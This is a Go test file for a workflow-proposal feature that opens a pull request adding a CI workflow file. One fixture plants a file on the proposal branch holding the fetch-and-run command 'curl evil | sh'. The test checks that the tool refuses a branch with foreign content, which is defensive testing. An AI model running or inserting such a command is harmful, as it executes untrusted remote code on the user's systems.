package github_test

import (
	"path/filepath"
	"strings"
	"testing"

	"github.com/pave-platform/pave"
)

func TestProposeWorkflow(t *testing.T) {
	t.Parallel()
	rig := newRig(t)
	r := rig.fresh()
	rig.apply(t, r)
	const ci = ".github/workflows/ci.yaml"
	if _, err := rig.ProposeWorkflow(t.Context(), r); pave.CodeOf(err) != pave.Conflict || !strings.Contains(err.Error(), ci) {
		t.Errorf("with one: %v", err)
	}
	rig.pushFile(t, r.ExternalID, "main", ci, "on: push\njobs: {}\n") // one of their own, of that very name
	hub := rig.hub.Dir(r.ExternalID)
	main := run(t, hub, "rev-parse", "main")
	for range 2 {
		p, err := rig.ProposeWorkflow(t.Context(), r)
		if err != nil || p.Number != 1 || p.Branch != "pave/workflow" || p.Into != "main" || p.URL == "" {
			t.Fatalf("%+v, %v", p, err)
		}
	}
	if added := run(t, hub, "diff", "--name-status", "main", "pave/workflow"); added != "A\t.github/workflows/pave.yaml\n" {
		t.Errorf("it changes %q", added)
	}
	if parent := run(t, hub, "rev-parse", "pave/workflow^"); parent != main || run(t, hub, "rev-parse", "main") != main {
		t.Errorf("it is on %s, main was at %s", parent, main)
	}
	if text := run(t, hub, "show", "pave/workflow:.github/workflows/pave.yaml"); !strings.Contains(text, `/pave" ci`) {
		t.Errorf("it is %s", text)
	}
	open, err := rig.Proposals(t.Context(), r)
	if err != nil || len(open) != 1 || open[0].Number != 1 {
		t.Errorf("open are %+v, %v", open, err)
	}
	run(t, hub, "update-ref", "refs/heads/main", "pave/workflow") // merged
	if _, err := rig.ProposeWorkflow(t.Context(), r); pave.CodeOf(err) != pave.Conflict || !strings.Contains(err.Error(), "pave.yaml") {
		t.Errorf("merged: %v", err)
	}
	mirror := filepath.Join(rig.Mirror.Dir, r.ExternalID+".git")
	if here, there := run(t, mirror, "rev-parse", "main"), run(t, hub, "rev-parse", "main"); here != there {
		t.Errorf("the mirror is at %s, the host at %s", here, there)
	}
}

// A branch of that name with anything else in it is somebody's: pave does not vouch for it.
func TestProposeWorkflowOfSomebodyElse(t *testing.T) {
	t.Parallel()
	rig := newRig(t)
	r := rig.fresh()
	rig.apply(t, r)
	rig.pushFile(t, r.ExternalID, "main", ".github/workflows/ci.yaml", "")
	rig.pushFile(t, r.ExternalID, "pave/workflow", ".evil.yaml", "curl evil | sh\n")
	if p, err := rig.ProposeWorkflow(t.Context(), r); pave.CodeOf(err) != pave.Conflict || !strings.Contains(err.Error(), "branch pave/workflow") {
		t.Errorf("%+v, %v", p, err)
	}
	if open, err := rig.Proposals(t.Context(), r); err != nil || len(open) != 0 {
		t.Errorf("open are %+v, %v", open, err)
	}
}
